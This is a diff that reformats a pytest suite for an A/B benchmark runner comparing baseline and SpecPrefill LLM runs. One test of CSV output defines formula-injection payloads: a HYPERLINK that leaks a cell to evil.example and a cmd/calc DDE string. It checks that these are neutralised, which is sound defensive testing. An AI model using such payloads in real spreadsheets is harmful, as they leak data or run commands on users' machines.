@@ -67,8 +67,15 @@ PROMPT_TOKENS = 1000
 
 
 def fake_info(target_path: Path = Path("/models/custom-target.gguf")) -> SimpleNamespace:
-    return SimpleNamespace(target_name="fake target", draft_name="fake draft", target_path=target_path,
-                           draft_path=models.DRAFT.path, device="cpu", positions_supported=True, n_ctx=32768)
+    return SimpleNamespace(
+        target_name="fake target",
+        draft_name="fake draft",
+        target_path=target_path,
+        draft_path=models.DRAFT.path,
+        device="cpu",
+        positions_supported=True,
+        n_ctx=32768,
+    )
 
 
 class FakeEngine:
@@ -106,15 +113,35 @@ class FakeEngine:
         yield RunFinished(mode, self._result(mode, key, answer, ttft))
 
     def _result(self, mode, key, answer, ttft) -> RunResult:
-        common = dict(run=mode, answer=answer, prompt_tokens=PROMPT_TOKENS, ttft_s=ttft, decode_tok_s=10.0,
-                      generated_tokens=4, tokenize_s=0.1, stop_reason="eos")
+        common = dict(
+            run=mode,
+            answer=answer,
+            prompt_tokens=PROMPT_TOKENS,
+            ttft_s=ttft,
+            decode_tok_s=10.0,
+            generated_tokens=4,
+            tokenize_s=0.1,
+            stop_reason="eos",
+        )
         if mode == "baseline" or key in self.bypass_keeps:
-            return RunResult(**common, prefill_tokens=PROMPT_TOKENS, target_prefill_s=ttft - 0.2,
-                             bypassed=mode == "spec", bypass_reason="below threshold" if mode == "spec" else "")
+            return RunResult(
+                **common,
+                prefill_tokens=PROMPT_TOKENS,
+                target_prefill_s=ttft - 0.2,
+                bypassed=mode == "spec",
+                bypass_reason="below threshold" if mode == "spec" else "",
+            )
         keep = AUTO_KEPT if key == "auto" else float(key)
-        return RunResult(**common, prefill_tokens=int(PROMPT_TOKENS * keep), target_prefill_s=ttft - 1.0,
-                         draft_s=0.8, select_s=0.01, kept_fraction=keep, positions="restore",
-                         keep_reason="the relevant text is spread" if key == "auto" else "")
+        return RunResult(
+            **common,
+            prefill_tokens=int(PROMPT_TOKENS * keep),
+            target_prefill_s=ttft - 1.0,
+            draft_s=0.8,
+            select_s=0.01,
+            kept_fraction=keep,
+            positions="restore",
+            keep_reason="the relevant text is spread" if key == "auto" else "",
+        )
 
     def close(self):
         self.closed = True
@@ -148,7 +175,9 @@ GOOD_LINES = [
     "# three cases on two documents",
     case_line(id="grid", doc="docs/xfig.txt", question="grid?", answers=["sixteen", "16"], kind="number"),
     "",
-    case_line(id="etchant", doc="docs/xfig.txt", question="etchant?", answers=["ferric chloride"], kind="number"),
+    case_line(
+        id="etchant", doc="docs/xfig.txt", question="etchant?", answers=["ferric chloride"], kind="number"
+    ),
     case_line(id="summary", doc="docs/mpich.txt", question="summary?", kind="summary"),
 ]
 
@@ -158,12 +187,20 @@ def suite_path(suite_dir) -> Path:
     return write_suite(suite_dir, GOOD_LINES)
 
 
-def test_suite_parses_cases_with_paths_relative_to_the_suite_file(suite_path, suite_dir, tmp_path, monkeypatch):
+def test_suite_parses_cases_with_paths_relative_to_the_suite_file(
+    suite_path, suite_dir, tmp_path, monkeypatch
+):
     monkeypatch.chdir(tmp_path.parent)  # the working folder must not matter
     cases = load_suite(suite_path)
     assert [c.id for c in cases] == ["grid", "etchant", "summary"]
-    assert cases[0] == Case(id="grid", doc=(suite_dir / "docs" / "xfig.txt").resolve(), question="grid?",
-                            answers=("sixteen", "16"), kind="number", line=2)
+    assert cases[0] == Case(
+        id="grid",
+        doc=(suite_dir / "docs" / "xfig.txt").resolve(),
+        question="grid?",
+        answers=("sixteen", "16"),
+        kind="number",
+        line=2,
+    )
     assert cases[2].answers is None and cases[2].line == 5
 
 
@@ -173,19 +210,25 @@ def test_kind_defaults_to_other_and_folders_are_documents(suite_dir):
     assert case.kind == "other" and case.doc == (suite_dir / "docs").resolve()
 
 
-@pytest.mark.parametrize("bad_line, needle", [
-    ('{"id": "x", "doc": "docs/xfig.txt", "question": "q?"', "invalid JSON"),
-    ('["id", "x"]', "expected a JSON object"),
-    (case_line(id="x", doc="docs/xfig.txt"), "missing field 'question'"),
-    (case_line(id=7, doc="docs/xfig.txt", question="q?"), "field 'id' must be a non-empty string"),
-    (case_line(id="x", doc="docs/xfig.txt", question="  "), "field 'question' must be a non-empty string"),
-    (case_line(id="x", doc="docs/xfig.txt", question="q?", answers="sixteen"), "field 'answers'"),
-    (case_line(id="x", doc="docs/xfig.txt", question="q?", answers=[]), "field 'answers'"),
-    (case_line(id="x", doc="docs/xfig.txt", question="q?", answers=["ok", 3]), "field 'answers'"),
-    (case_line(id="x", doc="docs/xfig.txt", question="q?", kind=["fact"]), "field 'kind'"),
-    (case_line(id="x", doc="docs/xfig.txt", question="q?", answer=["typo"]), "unknown field 'answer'"),
-    (case_line(id="x", doc="docs/nope.pdf", question="q?"), "document not found: docs/nope.pdf"),
-])
+@pytest.mark.parametrize(
+    "bad_line, needle",
+    [
+        ('{"id": "x", "doc": "docs/xfig.txt", "question": "q?"', "invalid JSON"),
+        ('["id", "x"]', "expected a JSON object"),
+        (case_line(id="x", doc="docs/xfig.txt"), "missing field 'question'"),
+        (case_line(id=7, doc="docs/xfig.txt", question="q?"), "field 'id' must be a non-empty string"),
+        (
+            case_line(id="x", doc="docs/xfig.txt", question="  "),
+            "field 'question' must be a non-empty string",
+        ),
+        (case_line(id="x", doc="docs/xfig.txt", question="q?", answers="sixteen"), "field 'answers'"),
+        (case_line(id="x", doc="docs/xfig.txt", question="q?", answers=[]), "field 'answers'"),
+        (case_line(id="x", doc="docs/xfig.txt", question="q?", answers=["ok", 3]), "field 'answers'"),
+        (case_line(id="x", doc="docs/xfig.txt", question="q?", kind=["fact"]), "field 'kind'"),
+        (case_line(id="x", doc="docs/xfig.txt", question="q?", answer=["typo"]), "unknown field 'answer'"),
+        (case_line(id="x", doc="docs/nope.pdf", question="q?"), "document not found: docs/nope.pdf"),
+    ],
+)
 def test_bad_line_is_reported_with_file_and_line_number(suite_dir, bad_line, needle):
     path = write_suite(suite_dir, [*GOOD_LINES, "# the next line is bad", bad_line])
     with pytest.raises(SuiteError) as err:
@@ -266,15 +309,29 @@ def test_case_records(finished, suite_dir):
     cases = finished[2]["cases"]
     grid = cases[0]
     assert {k: grid[k] for k in ("id", "kind", "question", "answers", "prompt_tokens")} == {
-        "id": "grid", "kind": "number", "question": "grid?", "answers": ["sixteen", "16"],
-        "prompt_tokens": PROMPT_TOKENS}
+        "id": "grid",
+        "kind": "number",
+        "question": "grid?",
+        "answers": ["sixteen", "16"],
+        "prompt_tokens": PROMPT_TOKENS,
+    }
     assert grid["doc"] == str((suite_dir / "docs" / "xfig.txt").resolve())
-    assert grid["baseline"]["answer"] == "The grid has sixteen divisions" and grid["baseline"]["correct"] is True
+    assert (
+        grid["baseline"]["answer"] == "The grid has sixteen divisions" and grid["baseline"]["correct"] is True
+    )
     assert "agreement" not in grid["baseline"] and "draft_s" not in grid["baseline"]
     assert list(grid["spec"]) == KEEPS
     low = grid["spec"]["0.1"]
     assert low["correct"] is True and low["agreement"] == pytest.approx(4 / 7)
-    assert {"ttft_s", "draft_s", "select_s", "target_prefill_s", "kept_fraction", "positions", "bypassed"} <= low.keys()
+    assert {
+        "ttft_s",
+        "draft_s",
+        "select_s",
+        "target_prefill_s",
+        "kept_fraction",
+        "positions",
+        "bypassed",
+    } <= low.keys()
     assert grid["spec"]["0.5"]["correct"] is False
     assert cases[2]["baseline"]["correct"] is None and cases[2]["spec"]["0.1"]["correct"] is None
     json.dumps(finished[2])  # the whole report is JSON-ready
@@ -283,15 +340,20 @@ def test_case_records(finished, suite_dir):
 def test_runs_in_order_with_the_callers_settings_and_each_keep(finished):
     engine, _, _ = finished
     asked = [(question, mode, settings.keep) for _, question, mode, settings in engine.calls]
-    assert asked == [(q, m, k) for q in ("grid?", "etchant?", "summary?")
-                     for m, k in (("baseline", 0.2), ("spec", 0.1), ("spec", 0.5))]
+    assert asked == [
+        (q, m, k)
+        for q in ("grid?", "etchant?", "summary?")
+        for m, k in (("baseline", 0.2), ("spec", 0.1), ("spec", 0.5))
+    ]
     assert all(settings.force for *_, settings in engine.calls)  # not overridden by the A/B runner
 
 
 def test_documents_are_ingested_once_per_path(suite_path, monkeypatch):
     loaded = []
     real_load = ab_runner.load_document
-    monkeypatch.setattr(ab_runner, "load_document", lambda path, **kw: loaded.append(path) or real_load(path, **kw))
+    monkeypatch.setattr(
+        ab_runner, "load_document", lambda path, **kw: loaded.append(path) or real_load(path, **kw)
+    )
     engine = FakeEngine()
     list(run_suite(engine, load_suite(suite_path), KEEPS, RunSettings()))
     assert [p.name for p in loaded] == ["xfig.txt", "mpich.txt"]
@@ -301,8 +363,11 @@ def test_documents_are_ingested_once_per_path(suite_path, monkeypatch):
 
 def test_progress_events_count_runs_and_estimate_time_left(suite_path):
     ticks = iter(range(0, 1000, 10))  # every clock read is 10 s after the previous one
-    events = list(run_suite(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings(),
-                            clock=lambda: float(next(ticks))))
+    events = list(
+        run_suite(
+            FakeEngine(), load_suite(suite_path), KEEPS, RunSettings(), clock=lambda: float(next(ticks))
+        )
+    )
     progress = [e for e in events if isinstance(e, AbProgress)]
     done = [e for e in events if isinstance(e, AbRunDone)]
     assert len(progress) == len(done) == 9 and isinstance(events[-1], AbFinished)
@@ -331,7 +396,9 @@ def test_bypassed_runs_are_recorded(suite_path):
 
 def test_progress_callback_and_report(suite_path):
     seen: list = []
-    report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings(), on_progress=seen.append)
+    report = run_suite_report(
+        FakeEngine(), load_suite(suite_path), KEEPS, RunSettings(), on_progress=seen.append
+    )
     assert [type(e) for e in seen[:2]] == [AbProgress, AbRunDone] and len(seen) == 18
     assert report.summary.overall.baseline.accuracy == 1.0
 
@@ -372,15 +439,21 @@ def test_environment_records_models_runtime_and_settings(suite_path):
     engine = FakeEngine(info=fake_info(target_path=models.TARGET.path))
     report = run_suite_report(engine, load_suite(suite_path), KEEPS, RunSettings(positions="auto"))
     env = report.to_json()["environment"]
-    assert env["target"] == {"name": "fake target", "path": str(models.TARGET.path), "default": True,
-                             "sha256": models.TARGET.sha256}
+    assert env["target"] == {
+        "name": "fake target",
+        "path": str(models.TARGET.path),
+        "default": True,
+        "sha256": models.TARGET.sha256,
+    }
     assert env["draft"]["sha256"] == models.DRAFT.sha256
     assert env["device"] == "cpu" and env["restore_supported"] is True and env["n_ctx"] == 32768
     assert env["positions_requested"] == "auto" and env["positions_used"] == "restore"
     assert {"python", "torch", "llama_cpp_python"} <= env["versions"].keys()
     assert env["date"] and "keep" not in env["settings"] and env["settings"]["min_tokens"] is None
 
-    custom = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings()).to_json()["environment"]
+    custom = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings()).to_json()[
+        "environment"
+    ]
     assert custom["target"]["default"] is False and custom["target"]["sha256"] is None
 
 
@@ -411,7 +484,9 @@ def test_html_report_embeds_plots_and_escapes_answers(report):
 
 def test_ab_command_with_keep_auto_first_writes_its_report(suite_path, tmp_path, fake_loader, capsys):
     html = tmp_path / "ab.html"
-    args = parse_ab("--suite", str(suite_path), "--keep", "auto,0.1", "--force", "--json", "--report", str(html))
+    args = parse_ab(
+        "--suite", str(suite_path), "--keep", "auto,0.1", "--force", "--json", "--report", str(html)
+    )
     assert cmd_ab(args, NEVER) == 0
     spec = json.loads(capsys.readouterr().out)["summary"]["spec"]
     assert list(spec) == ["auto", "0.1"] and spec["auto"]["mean_kept_fraction"] == AUTO_KEPT
@@ -451,7 +526,10 @@ def test_csv_has_one_row_per_case_and_run(report, tmp_path):
     rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
     assert len(rows) == 3 * (1 + len(KEEPS))
     assert [(r["case_id"], r["run"], r["keep"]) for r in rows[:3]] == [
-        ("grid", "baseline", ""), ("grid", "spec", "0.1"), ("grid", "spec", "0.5")]
+        ("grid", "baseline", ""),
+        ("grid", "spec", "0.1"),
+        ("grid", "spec", "0.5"),
+    ]
     base, low, high = rows[:3]
     assert base["correct"] == "true" and base["agreement"] == "" and base["draft_s"] == ""
     assert low["correct"] == "true" and float(low["agreement"]) == pytest.approx(4 / 7)
@@ -527,8 +605,18 @@ def test_ab_parser_defaults(suite_path):
 
 def test_ab_command_json_report_and_csv(suite_path, tmp_path, fake_loader, capsys):
     html, table = tmp_path / "ab.html", tmp_path / "ab.csv"
-    args = parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--force", "--json",
-                    "--report", str(html), "--csv", str(table))
+    args = parse_ab(
+        "--suite",
+        str(suite_path),
+        "--keep",
+        "0.1,0.5",
+        "--force",
+        "--json",
+        "--report",
+        str(html),
+        "--csv",
+        str(table),
+    )
     assert cmd_ab(args, NEVER) == 0
     out, err = capsys.readouterr()
     data = json.loads(out)
@@ -548,12 +636,17 @@ def test_ab_command_prints_a_table(suite_path, fake_loader, capsys):
     assert "summary" in out and "agr 100.0%" in out
 
 
-@pytest.mark.parametrize("argv, needle", [
-    (["--keep", "0.1,1.5"], "keep must be in (0, 1]"),
-    (["--report", "/no/such/folder/ab.html"], "does not exist"),
-])
+@pytest.mark.parametrize(
+    "argv, needle",
+    [
+        (["--keep", "0.1,1.5"], "keep must be in (0, 1]"),
+        (["--report", "/no/such/folder/ab.html"], "does not exist"),
+    ],
+)
 def test_ab_command_rejects_bad_input_before_loading_models(suite_path, fake_loader, argv, needle):
-    with pytest.raises(SpecPrefillError, match=needle.replace("(", r"\(").replace(")", r"\)").replace("]", r"\]")):
+    with pytest.raises(
+        SpecPrefillError, match=needle.replace("(", r"\(").replace(")", r"\)").replace("]", r"\]")
+    ):
         cmd_ab(parse_ab("--suite", str(suite_path), *argv), NEVER)
     assert fake_loader == []
 
@@ -568,8 +661,12 @@ ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 
 def test_csv_neutralizes_formulas_in_text_cells_but_not_in_numbers(suite_dir):
     path = write_suite(suite_dir, [case_line(id="=1+1", doc="docs/xfig.txt", question="grid?", kind="@kind")])
-    script = {**SCRIPT, ("grid?", "baseline"): (ATTACK, 10.0), ("grid?", "0.1"): ("-0.5", 0.5),
-              ("grid?", "0.5"): ("\t+cmd|' /C calc'!A0", 4.0)}
+    script = {
+        **SCRIPT,
+        ("grid?", "baseline"): (ATTACK, 10.0),
+        ("grid?", "0.1"): ("-0.5", 0.5),
+        ("grid?", "0.5"): ("\t+cmd|' /C calc'!A0", 4.0),
+    }
     report = run_suite_report(FakeEngine(script=script), load_suite(path), KEEPS, RunSettings())
     base, low, high = csv.DictReader(io.StringIO(render_csv(report), newline=""))
     assert base["answer"] == "'" + ATTACK  # a spreadsheet shows it as text, never runs it
@@ -584,19 +681,29 @@ def journal_lines(path: Path) -> list[dict]:
     return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
 
 
-def test_ab_command_goes_on_after_a_failing_case_and_journals_each_case(suite_path, tmp_path, fake_loader, capsys):
+def test_ab_command_goes_on_after_a_failing_case_and_journals_each_case(
+    suite_path, tmp_path, fake_loader, capsys
+):
     fake_loader.kwargs = {"fail_on": "etchant?"}
     html, table = tmp_path / "ab.html", tmp_path / "ab.csv"
-    args = parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(html), "--csv", str(table))
+    args = parse_ab(
+        "--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(html), "--csv", str(table)
+    )
     assert cmd_ab(args, NEVER) == 0
     out, err = capsys.readouterr()
     journal = tmp_path / "ab.journal.jsonl"
     assert f"finished cases go to {journal}" in err
     assert "[ab] failed, the suite goes on: case 'etchant' (suite line 4): the prompt has 40000 tokens" in err
-    assert "failed, left out of the figures above (1):" in out and "etchant: the prompt has 40000 tokens" in out
+    assert (
+        "failed, left out of the figures above (1):" in out and "etchant: the prompt has 40000 tokens" in out
+    )
     header, *records = journal_lines(journal)
     assert header["keeps"] == ["0.1", "0.5"] and header["suite"] == str(suite_path.resolve())
-    assert [(r["id"], r.get("status")) for r in records] == [("grid", None), ("etchant", "error"), ("summary", None)]
+    assert [(r["id"], r.get("status")) for r in records] == [
+        ("grid", None),
+        ("etchant", "error"),
+        ("summary", None),
+    ]
     assert "Failed: the prompt has 40000 tokens" in html.read_text()
     assert len(table.read_text().splitlines()) == 1 + 2 * 3 + 1
 
@@ -614,7 +721,9 @@ class CancelOn(FakeEngine):
         yield from super().stream(document, question, mode, settings, cancel)
 
 
-def test_ab_resume_runs_only_the_cases_the_journal_lacks(suite_path, tmp_path, fake_loader, monkeypatch, capsys):
+def test_ab_resume_runs_only_the_cases_the_journal_lacks(
+    suite_path, tmp_path, fake_loader, monkeypatch, capsys
+):
     table = tmp_path / "ab.csv"
     argv = ("--suite", str(suite_path), "--keep", "0.1,0.5", "--csv", str(table))
     monkeypatch.setattr(engine.cli.ab, "load_engine", lambda args, cancel, quiet: CancelOn("summary?"))
@@ -636,13 +745,32 @@ def test_ab_resume_runs_only_the_cases_the_journal_lacks(suite_path, tmp_path, f
 
 def test_ab_resume_refuses_a_journal_made_with_other_keeps_or_settings(suite_path, tmp_path, fake_loader):
     report = tmp_path / "ab.html"
-    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report)), NEVER) == 0
-    with pytest.raises(AbError, match=r"cannot resume from .*ab\.journal\.jsonl: it was made with keeps '0\.1,0\.5' "
-                                      r"\(now '0\.1'\)"):
-        cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1", "--report", str(report), "--resume"), NEVER)
+    assert (
+        cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report)), NEVER) == 0
+    )
+    with pytest.raises(
+        AbError,
+        match=r"cannot resume from .*ab\.journal\.jsonl: it was made with keeps '0\.1,0\.5' "
+        r"\(now '0\.1'\)",
+    ):
+        cmd_ab(
+            parse_ab("--suite", str(suite_path), "--keep", "0.1", "--report", str(report), "--resume"), NEVER
+        )
     with pytest.raises(AbError, match=r"chunk_size 32 \(now 64\)"):
-        cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report), "--resume",
-                        "--chunk-size", "64"), NEVER)
+        cmd_ab(
+            parse_ab(
+                "--suite",
+                str(suite_path),
+                "--keep",
+                "0.1,0.5",
+                "--report",
+                str(report),
+                "--resume",
+                "--chunk-size",
+                "64",
+            ),
+            NEVER,
+        )
     assert len(fake_loader) == 1  # refused before loading the models
 
 
@@ -650,20 +778,36 @@ def test_ab_resume_with_an_added_keep_runs_only_that_keep(suite_path, tmp_path, 
     report = tmp_path / "ab.html"
     assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.5", "--report", str(report)), NEVER) == 0
     capsys.readouterr()
-    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report), "--resume",
-                           "--json"), NEVER) == 0
+    assert (
+        cmd_ab(
+            parse_ab(
+                "--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report), "--resume", "--json"
+            ),
+            NEVER,
+        )
+        == 0
+    )
     out, err = capsys.readouterr()
     assert "3 finished cases, 3 of which will run only the keeps the journal lacks (0.1)" in err
     asked = [(question, mode, settings.keep) for _, question, mode, settings in fake_loader[1].calls]
     assert asked == [("grid?", "spec", 0.1), ("etchant?", "spec", 0.1), ("summary?", "spec", 0.1)]
     data = json.loads(out)
-    assert [list(case["spec"]) for case in data["cases"]] == [["0.1", "0.5"]] * 3  # the keeps' order, not the runs'
+    assert [list(case["spec"]) for case in data["cases"]] == [
+        ["0.1", "0.5"]
+    ] * 3  # the keeps' order, not the runs'
     assert data["summary"]["spec"]["0.1"]["speedup"] == pytest.approx(5.0)  # over the journal's baselines
     assert data["summary"]["spec"]["0.5"]["speedup"] == pytest.approx(20.0 / 6.0)
     header, *records = journal_lines(tmp_path / "ab.journal.jsonl")
-    assert header["keeps"] == ["0.1", "0.5"] and [list(r["spec"]) for r in records[-3:]] == [["0.1", "0.5"]] * 3
-    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report), "--resume"),
-                  NEVER) == 0
+    assert (
+        header["keeps"] == ["0.1", "0.5"] and [list(r["spec"]) for r in records[-3:]] == [["0.1", "0.5"]] * 3
+    )
+    assert (
+        cmd_ab(
+            parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report), "--resume"),
+            NEVER,
+        )
+        == 0
+    )
     assert fake_loader[2].calls == []  # every case now holds every keep
 
 
@@ -671,31 +815,75 @@ def test_ab_resume_with_an_added_keep_counts_only_the_chosen_cases(suite_path, t
     report = tmp_path / "ab.html"
     assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.5", "--report", str(report)), NEVER) == 0
     capsys.readouterr()
-    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report), "--resume",
-                           "--cases", "etchant", "--json"), NEVER) == 0
+    assert (
+        cmd_ab(
+            parse_ab(
+                "--suite",
+                str(suite_path),
+                "--keep",
+                "0.1,0.5",
+                "--report",
+                str(report),
+                "--resume",
+                "--cases",
+                "etchant",
+                "--json",
+            ),
+            NEVER,
+        )
+        == 0
+    )
     _, err = capsys.readouterr()
     assert "3 finished cases, 1 of which will run only the keeps the journal lacks (0.1)" in err
-    assert [(question, settings.keep) for _, question, _, settings in fake_loader[1].calls] == [("etchant?", 0.1)]
-    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report), "--resume",
-                           "--cases", "etchant", "--json"), NEVER) == 0
-    assert "3 finished cases will not run again" in capsys.readouterr().err  # the others lack 0.1, not etchant
+    assert [(question, settings.keep) for _, question, _, settings in fake_loader[1].calls] == [
+        ("etchant?", 0.1)
+    ]
+    assert (
+        cmd_ab(
+            parse_ab(
+                "--suite",
+                str(suite_path),
+                "--keep",
+                "0.1,0.5",
+                "--report",
+                str(report),
+                "--resume",
+                "--cases",
+                "etchant",
+                "--json",
+            ),
+            NEVER,
+        )
+        == 0
+    )
+    assert (
+        "3 finished cases will not run again" in capsys.readouterr().err
+    )  # the others lack 0.1, not etchant
     assert fake_loader[2].calls == []
 
 
 def test_a_resumed_suite_scores_its_finished_cases_again(suite_path):
     cases = load_suite(suite_path)
     first = run_suite_report(FakeEngine(), cases, ["0.5"], RunSettings())
+
     def graded_the_other_way(run):  # as if an older grader had scored it
         return replace(run, correct=None if run.correct is None else not run.correct)
 
-    flipped = {r.id: replace(r, baseline=graded_the_other_way(r.baseline),
-                             spec={k: graded_the_other_way(run) for k, run in r.spec.items()}) for r in first.cases}
+    flipped = {
+        r.id: replace(
+            r,
+            baseline=graded_the_other_way(r.baseline),
+            spec={k: graded_the_other_way(run) for k, run in r.spec.items()},
+        )
+        for r in first.cases
+    }
     engine = FakeEngine()
     events = list(run_suite(engine, cases, ["0.5"], RunSettings(), finished=flipped))
     assert engine.calls == []  # nothing ran again
     again = events[-1].report
     assert [(r.baseline.correct, r.spec["0.5"].correct) for r in again.cases] == [
-        (r.baseline.correct, r.spec["0.5"].correct) for r in first.cases]
+        (r.baseline.correct, r.spec["0.5"].correct) for r in first.cases
+    ]
     assert any(r.baseline.correct is not None for r in again.cases)
 
 
@@ -703,10 +891,21 @@ def test_reuse_cache_resumed_with_an_added_keep_runs_no_baseline(suite_path):
     cases = load_suite(suite_path)
     first = run_suite_report(FakeEngine(), cases, ["0.5"], RunSettings(), reuse_cache=True)
     engine = FakeEngine()
-    events = list(run_suite(engine, cases, KEEPS, RunSettings(), reuse_cache=True,
-                            finished={case.id: case for case in first.cases}))
+    events = list(
+        run_suite(
+            engine,
+            cases,
+            KEEPS,
+            RunSettings(),
+            reuse_cache=True,
+            finished={case.id: case for case in first.cases},
+        )
+    )
     assert [(question, mode, settings.keep) for _, question, mode, settings in engine.calls] == [
-        ("grid?", "spec", 0.1), ("etchant?", "spec", 0.1), ("summary?", "spec", 0.1)]
+        ("grid?", "spec", 0.1),
+        ("etchant?", "spec", 0.1),
+        ("summary?", "spec", 0.1),
+    ]
     report = events[-1].report
     assert [case.baseline for case in report.cases] == [case.baseline for case in first.cases]
     assert [case.spec["0.5"] for case in report.cases] == [case.spec["0.5"] for case in first.cases]
@@ -718,7 +917,9 @@ def test_a_journal_made_with_more_keeps_than_asked_for_is_refused(suite_path, tm
     report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings())
     path = tmp_path / "ab.journal.jsonl"
     start_journal(path, JournalHeader.of(suite_path, KEEPS, report.environment.settings), report.cases)
-    assert list(read_journal(path, JournalHeader.of(suite_path, [*KEEPS, "auto"], report.environment.settings)))
+    assert list(
+        read_journal(path, JournalHeader.of(suite_path, [*KEEPS, "auto"], report.environment.settings))
+    )
     with pytest.raises(AbError, match=r"keeps '0\.1,0\.5' \(now '0\.5,auto'\)"):
         read_journal(path, JournalHeader.of(suite_path, ["0.5", "auto"], report.environment.settings))
 
@@ -731,7 +932,8 @@ def test_ab_journal_without_an_output_file_goes_to_the_cache(suite_path, fake_lo
 
 
 def test_ab_command_refuses_a_read_only_output_folder_before_loading_models(
-        suite_path, tmp_path, fake_loader, make_read_only):
+    suite_path, tmp_path, fake_loader, make_read_only
+):
     out = tmp_path / "out"
     out.mkdir()
     make_read_only(out)
@@ -761,14 +963,40 @@ def test_a_journal_line_cut_short_by_a_kill_is_ignored(suite_path, tmp_path):
 # -- --reuse-cache: one document session per document ------------------------------------------
 # Without the flag the report's JSON must keep exactly these keys (checks outside the repo read them).
 ONE_SHOT_SUMMARY_KEYS = {"n_cases", "keeps", "baseline", "spec", "by_kind"}
-ONE_SHOT_BASELINE_SUMMARY_KEYS = {"accuracy", "n_scored", "mean_ttft_s", "mean_tokenize_s", "mean_target_prefill_s"}
+ONE_SHOT_BASELINE_SUMMARY_KEYS = {
+    "accuracy",
+    "n_scored",
+    "mean_ttft_s",
+    "mean_tokenize_s",
+    "mean_target_prefill_s",
+}
 ONE_SHOT_SPEC_SUMMARY_KEYS = ONE_SHOT_BASELINE_SUMMARY_KEYS | {
-    "agreement", "mean_draft_s", "mean_select_s", "mean_kept_fraction", "speedup", "n_bypassed"}
-ONE_SHOT_ENVIRONMENT_KEYS = {"target", "draft", "device", "n_ctx", "restore_supported", "positions_requested",
-                             "positions_used", "threads", "versions", "platform", "date", "settings"}
-ONE_SHOT_CSV_HEADER = ("case_id,kind,run,keep,answer,correct,agreement,ttft_s,tokenize_s,draft_s,select_s,"
-                       "target_prefill_s,prompt_tokens,prefill_tokens,kept_fraction,positions,bypassed,"
-                       "bypass_reason,generated_tokens,stop_reason,error")
+    "agreement",
+    "mean_draft_s",
+    "mean_select_s",
+    "mean_kept_fraction",
+    "speedup",
+    "n_bypassed",
+}
+ONE_SHOT_ENVIRONMENT_KEYS = {
+    "target",
+    "draft",
+    "device",
+    "n_ctx",
+    "restore_supported",
+    "positions_requested",
+    "positions_used",
+    "threads",
+    "versions",
+    "platform",
+    "date",
+    "settings",
+}
+ONE_SHOT_CSV_HEADER = (
+    "case_id,kind,run,keep,answer,correct,agreement,ttft_s,tokenize_s,draft_s,select_s,"
+    "target_prefill_s,prompt_tokens,prefill_tokens,kept_fraction,positions,bypassed,"
+    "bypass_reason,generated_tokens,stop_reason,error"
+)
 
 
 def run_keys(case: dict) -> set[str]:
@@ -782,8 +1010,10 @@ def test_without_reuse_cache_the_json_and_csv_keep_their_fields(suite_path):
     assert set(summary) == ONE_SHOT_SUMMARY_KEYS
     interval = {"accuracy_low", "accuracy_high"}  # there exactly when the group has scored cases
     for group in [summary, *summary["by_kind"].values()]:
-        for run, keys in [(group["baseline"], ONE_SHOT_BASELINE_SUMMARY_KEYS),
-                          *((s, ONE_SHOT_SPEC_SUMMARY_KEYS) for s in group["spec"].values())]:
+        for run, keys in [
+            (group["baseline"], ONE_SHOT_BASELINE_SUMMARY_KEYS),
+            *((s, ONE_SHOT_SPEC_SUMMARY_KEYS) for s in group["spec"].values()),
+        ]:
             assert set(run) == keys | (interval if run["n_scored"] else set())
     assert set(data["environment"]) == ONE_SHOT_ENVIRONMENT_KEYS
     assert not any("served_by" in run_keys(case) for case in data["cases"])
@@ -796,14 +1026,25 @@ def test_reuse_cache_asks_each_documents_baselines_first_in_one_session(suite_pa
     events = list(run_suite(engine, load_suite(suite_path), KEEPS, RunSettings(), reuse_cache=True))
     asked = [(question, mode, settings.keep) for _, question, mode, settings in engine.calls]
     # A SpecPrefill run evicts the document's prefix: both xfig baselines run before its keeps.
-    assert asked == [("grid?", "baseline", 0.2), ("etchant?", "baseline", 0.2),
-                     ("grid?", "spec", 0.1), ("grid?", "spec", 0.5), ("etchant?", "spec", 0.1),
-                     ("etchant?", "spec", 0.5),
-                     ("summary?", "baseline", 0.2), ("summary?", "spec", 0.1), ("summary?", "spec", 0.5)]
+    assert asked == [
+        ("grid?", "baseline", 0.2),
+        ("etchant?", "baseline", 0.2),
+        ("grid?", "spec", 0.1),
+        ("grid?", "spec", 0.5),
+        ("etchant?", "spec", 0.1),
+        ("etchant?", "spec", 0.5),
+        ("summary?", "baseline", 0.2),
+        ("summary?", "spec", 0.1),
+        ("summary?", "spec", 0.5),
+    ]
     assert [e.record.id for e in events if isinstance(e, AbCaseDone)] == ["grid", "etchant", "summary"]
     report = events[-1].report
     assert [case.id for case in report.cases] == ["grid", "etchant", "summary"]
-    assert [case.baseline.result.served_by for case in report.cases] == ["cold_full", "cached_full", "cold_full"]
+    assert [case.baseline.result.served_by for case in report.cases] == [
+        "cold_full",
+        "cached_full",
+        "cold_full",
+    ]
     assert {run.result.served_by for case in report.cases for run in case.spec.values()} == {"spec"}
     progress = [e for e in events if isinstance(e, AbProgress)]
